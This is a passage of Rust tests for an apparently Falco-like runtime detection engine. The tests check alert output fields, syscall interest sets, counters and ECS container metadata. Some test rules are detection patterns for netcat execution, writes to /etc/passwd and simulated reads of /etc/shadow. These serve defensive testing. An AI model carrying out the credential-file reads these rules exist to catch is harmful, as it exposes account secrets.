    // Conditions do not pay for the /proc lookup; the alert's output does.
    assert_eq!(
        outputs(&alerts),
        ["10.0.0.5:40000->10.0.0.1:443 40000 10.0.0.5"]
    );
}

#[test]
fn event_fields() {
    let machine = Machine::new("event-fields");
    let mut engine = machine.rules(&rule(
        "evt.type in (openat, unlinkat, renameat2)",
        "%evt.num %evt.dir %evt.res %evt.arg.flags %evt.arg[1] %evt.rawarg.dirfd %evt.is_open_read \
         %evt.is_open_write %evt.is_open_exec %evt.abspath %evt.abspath.src %evt.abspath.dst \
         %evt.hostname %evt.abi",
    ));
    let mut events = exec(PID, "/usr/bin/app", &["app"]);
    events.push(syscall(PID, "chdir", vec![bytes("/srv")], 0));
    events.push(syscall(
        PID,
        "openat",
        vec![
            int(AT_FDCWD),
            bytes("run.sh"),
            uint((libc::O_RDWR | libc::O_CREAT) as u64),
            uint(0o755),
        ],
        3,
    ));
    events.push(openat(PID, "/data", libc::O_RDONLY | libc::O_DIRECTORY, 4));
    events.push(syscall(
        PID,
        "unlinkat",
        vec![int(4), bytes("old"), uint(0)],
        0,
    ));
    events.push(syscall(
        PID,
        "renameat2",
        vec![int(4), bytes("a"), int(AT_FDCWD), bytes("b"), uint(0)],
        0,
    ));
    let alerts = run(&mut engine, &events);
    assert_eq!(
        outputs(&alerts),
        [
            "4 < SUCCESS O_RDWR|O_CREAT run.sh -100 true true true /srv/run.sh <NA> <NA> test-host x86_64",
            "5 < SUCCESS O_RDONLY|O_DIRECTORY /data -100 true false false /data <NA> <NA> test-host x86_64",
            "6 < SUCCESS 0 old 4 false false false /data/old <NA> <NA> test-host x86_64",
            "7 < SUCCESS 0 a <NA> false false false /srv/b /data/a /srv/b test-host x86_64",
        ]
    );
}

// ---- interest and counters ----

fn has(set: &SyscallSet, name: &str) -> bool {
    set.contains(SyscallId::from_name(name).expect("syscall name"))
}

#[test]
fn interest_adds_state_syscalls_only_for_the_state_rules_read() {
    let load =
        |yaml: &str| lanner_rules::load_str("i.yaml", yaml, Default::default()).expect("loads");

    let events_only = engine::interest(&load(&rule("evt.type=ptrace", "%evt.arg.request")));
    assert_eq!(
        events_only.iter().map(|id| id.name()).collect::<Vec<_>>(),
        ["ptrace"]
    );

    let proc_only = engine::interest(&load(&rule("evt.type=execve and proc.name=nc", "o")));
    assert!(has(&proc_only, "execve") && has(&proc_only, "setuid") && has(&proc_only, "chdir"));
    for fd_call in ["close", "dup", "dup2", "openat", "socket", "rename"] {
        assert!(
            !has(&proc_only, fd_call),
            "{fd_call}: no rule reads fd state"
        );
    }

    let with_fds = engine::interest(&load(&rule("evt.type=write and fd.name=/etc/passwd", "o")));
    for call in [
        "write",
        "close",
        "close_range",
        "openat",
        "dup2",
        "socket",
        "connect",
        "accept4",
    ] {
        assert!(has(&with_fds, call), "{call}");
    }
    // Left to /proc when a rule asks: pipes, fcntl, anonymous fds; and no file-write tracking.
    for call in ["pipe2", "fcntl", "eventfd2", "rename"] {
        assert!(!has(&with_fds, call), "{call}");
    }

    let drops = engine::interest(&load(&rule(
        "evt.type=execve and proc.is_exe_upper_layer=true",
        "o",
    )));
    assert!(has(&drops, "rename") && has(&drops, "linkat") && has(&drops, "openat"));
    assert!(!has(&drops, "close"), "written files need no fd table");

    let default = engine::interest(&engine::default_ruleset().expect("default rules"));
    for call in [
        "openat",
        "execve",
        "connect",
        "ptrace",
        "close",
        "socket",
        "symlinkat",
        "init_module",
    ] {
        assert!(has(&default, call), "{call}");
    }
    assert!(!has(&default, "read") && !has(&default, "fcntl"));
}

#[test]
fn counters_and_alerts_by_rule() {
    let machine = Machine::new("stats");
    let mut engine = machine.default_engine();
    let mut events = cat_shadow(PID);
    events.extend(cat_shadow(PID + 10));
    events.push(Event {
        ts: 5,
        pid: PID,
        tid: PID,
        kind: EventKind::Drop(DropEvent {
            count: 3,
            reason: "test",
        }),
    });
    let alerts = run(&mut engine, &events);
    assert_eq!(alerts.len(), 2);
    let stats = engine.stats();
    assert_eq!(stats.events, events.len() as u64);
    assert_eq!(stats.alerts, 2);
    assert_eq!(stats.dropped, 3);
    assert!(stats.evaluated > 0 && stats.evaluated < stats.events);
    assert_eq!(
        engine.alerts_by_rule(),
        [("Read sensitive file untrusted", 2)]
    );
}

#[test]
fn a_missing_proc_tree_is_not_an_error() {
    let config = EngineConfig {
        proc_root: Path::new("/nonexistent/proc").to_path_buf(),
        ..Machine::new("no-proc").config()
    };
    let mut engine = Engine::with_config(engine::default_ruleset().expect("rules"), config);
    let alerts = run(&mut engine, &cat_shadow(PID));
    assert_eq!(names(&alerts), ["Read sensitive file untrusted"]);
}

#[test]
fn a_workload_container_serves_container_fields_and_goes_into_every_alert() {
    let machine = Machine::new("workload");
    // The cgroup says nothing (a private cgroup namespace, as in a Fargate task).
    machine.process(PID, 1, "sh", &["sh"], 0, "0::/\n");
    let config = EngineConfig {
        workload: Some(WorkloadContainer {
            id: "cd189a933e5849daa93386466019ab50-2495160603".into(),
            name: "api".into(),
            image: "111122223333.dkr.ecr.us-west-2.amazonaws.com/shop-api:1.4.2".into(),
            image_id: Some("sha256:25f3".into()),
            runtime: "ecs",
            extra_fields: vec![("ecs.task_arn".into(), "arn:aws:ecs:task/x".into())],
        }),
        ..machine.config()
    };
    let yaml = rule(
        "evt.type = openat and fd.name = /etc/shadow and container.image.tag = 1.4.2 and container.image.repository endswith /shop-api",
        "id=%container.id name=%container.name type=%container.type image=%container.image image_id=%container.image.id",
    );
    let ruleset = lanner_rules::load_str("test.yaml", &yaml, Default::default()).expect("rules");
    let mut engine = Engine::with_config(ruleset, config);
    let alerts = run(&mut engine, &cat_shadow(PID));
    assert_eq!(
        outputs(&alerts),
        ["id=cd189a933e5849daa93386466019ab50-2495160603 name=api type=ecs image=111122223333.dkr.ecr.us-west-2.amazonaws.com/shop-api:1.4.2 image_id=sha256:25f3"]
    );
    let json: serde_json::Value =
        serde_json::from_str(&engine.alert_json(&alerts[0])).expect("JSON");
    let fields = &json["output_fields"];
    assert_eq!(fields["ecs.task_arn"], "arn:aws:ecs:task/x");
    assert_eq!(fields["container.name"], "api");
    assert_eq!(
        fields["container.image"],
        "111122223333.dkr.ecr.us-west-2.amazonaws.com/shop-api:1.4.2"
    );
    let keys: Vec<&String> = fields.as_object().expect("object").keys().collect();
    let mut sorted = keys.clone();
    sorted.sort();
    assert_eq!(
        keys, sorted,
        "output_fields in Falco's (alphabetical) order"
    );
}

#[test]
fn without_a_workload_container_image_fields_are_unknown() {
    let machine = Machine::new("no-workload");
    let mut engine = machine.rules(&rule(
        "evt.type = openat and fd.name = /etc/shadow",
        "image=%container.image tag=%container.image.tag",
    ));
    let alerts = run(&mut engine, &cat_shadow(PID));
    assert_eq!(outputs(&alerts), ["image=<NA> tag=<NA>"]);
    assert!(alerts[0]
        .output_fields
        .iter()
        .all(|(n, _)| !n.starts_with("ecs.")));
}
